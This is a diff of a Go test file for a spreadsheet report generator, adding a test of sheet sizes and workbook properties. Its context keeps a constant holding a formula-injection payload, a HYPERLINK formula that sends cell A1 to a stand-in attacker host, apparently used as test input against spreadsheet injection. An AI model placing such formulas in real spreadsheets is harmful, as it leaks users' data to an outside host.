@@ -13,6 +13,7 @@ import (
 
 	"github.com/bluelight-wellbeing/toolkit/reports/figure"
 	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc"
+	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc/xlsxtest"
 )
 
 const malicious = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
@@ -319,4 +320,13 @@ func TestNumbersAreFormatted(t *testing.T) {
 			t.Errorf("levels are not formatted 0.0: %+v", st)
 		}
 	}
+}
+
+// TestSizesAndProperties: every sheet declares its real size, and the
+// workbook its title, author and organisation.
+func TestSizesAndProperties(t *testing.T) {
+	w := sample()
+	f, _ := open(t, w)
+	xlsxtest.Dimensions(t, f, map[string]string{SheetGaps: "A1:N58", SheetRisks: "A1:F3", SheetBenchmarks: "A1:H3", SheetSummary: "A1:J14"})
+	xlsxtest.Properties(t, f, "Gap analysis: Heddlu Gwent, 2025/26", "Heddlu Gwent")
 }
